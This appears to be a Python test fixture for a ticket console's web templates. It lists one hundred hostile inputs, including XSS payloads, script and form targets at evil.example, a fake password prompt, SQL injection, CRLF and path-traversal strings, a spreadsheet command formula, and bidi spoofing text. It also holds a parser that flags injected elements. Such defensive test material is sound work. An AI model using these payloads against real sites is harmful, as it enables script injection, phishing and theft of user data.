"""A hundred texts that citizens might send to break a page, or the eyes of who reads it."""

from html.parser import HTMLParser

_SCRIPTS = [
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "</script><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>点我</a>",
    "<form action=//evil.example><button>签收</button></form>",
    "<input autofocus onfocus=alert({n})>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{display:none}}</style>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=//evil.example/{n}.swf>",
    '"><script>alert({n})</script>',
    "' onmouseover='alert({n})' x='",
    '" autofocus onfocus="alert({n})',
    "`-alert({n})-`",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    '<!--<img src="--><img src=x onerror=alert({n})>">',
    "<![CDATA[<script>alert({n})</script>]]>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "{{{{7*7}}}} {{% for x in y %}} {n}",
    "${{alert({n})}} #{{alert({n})}}",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "<template><script>alert({n})</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<xmp><script>alert({n})</script></xmp>",
    "<plaintext>",
    "<select><option>{n}</option></select></select>",
    "<div hx-get=/console/sign-out hx-trigger=load>{n}</div>",
    "<div hx-on:click=alert({n}) data-hx-post=/x>",
    "<button form=answer formaction=//evil.example>{n}</button>",
    "<tr><td></table></main></body></html>{n}",
    "<dialog open>您的登录已过期，请输入密码{n}</dialog>",
    "<p style=position:fixed;inset:0;background:red>{n}</p>",
    "＜script＞alert({n})＜/script＞",
    "<scr\x00ipt>alert({n})</scr\x00ipt>".replace("\x00", ""),
    "<img/src=x/onerror=alert({n})>",
    "<<script>alert({n})//<</script>",
]
_EYES = [
    "\u202e第{n}件已经办结\u202c",
    "\u202e没有结束{n}",
    "\u2067从右往左{n}\u2069",
    "\u2066\u2066\u2066开了不关{n}",
    "العربية {n} עברית",
    "\u200b\u200b\u200b{n}\u200b",
    "路\u200b灯\u200c坏\u200d了\ufeff{n}",
    "\u00ad\u2060\u180e{n}",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞{n}",
    "👨‍👩‍👧‍👦🏳️‍🌈{n}",
    "𝕊𝕔𝕣𝕚𝕡𝕥{n}",
    "很长的一个词" + "没有空格" * 40 + "{n}",
    "https://evil.example/" + "a" * 300 + "{n}",
    "第一行\n第二行\n\n\n第五行{n}",
    "  前后  有  空格  {n}  。",
    "\t制表\t符\t{n}",
    "'; DROP TABLE tickets; --{n}",
    "%00%0d%0aSet-Cookie:x={n}",
    "../../etc/passwd{n}",
    "=cmd|' /C calc'!A{n}",
    "〔手机号{n}〕〔原文1〕",
    "{{ visit.csrf }}{n}",
    "\U000e0001\U000e0041{n}",
    "\u2028分行\u2029分段{n}",
    "【系统】您的工单已办结，点此确认{n}",
]

HOSTILE = [
    text.format(n=number)
    for number, text in enumerate([*_SCRIPTS, *_EYES, *reversed([*_SCRIPTS[:25]])], 1)
]
"""One hundred of them."""


class Reader(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self) -> None:
        super().__init__()
        self.theirs: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        ours = tag != "script" or dict(attributes).get("src", "").startswith("/console/static/")
        runs = any(name.startswith("on") or name == "style" for name, _ in attributes)
        if not ours or runs or tag in ("img", "svg", "iframe", "style", "base", "object", "embed"):
            self.theirs.append(tag)


def theirs_among(text: str) -> list[str]:
    """Elements that no template of ours has."""
    reader = Reader()
    reader.feed(text)
    return reader.theirs
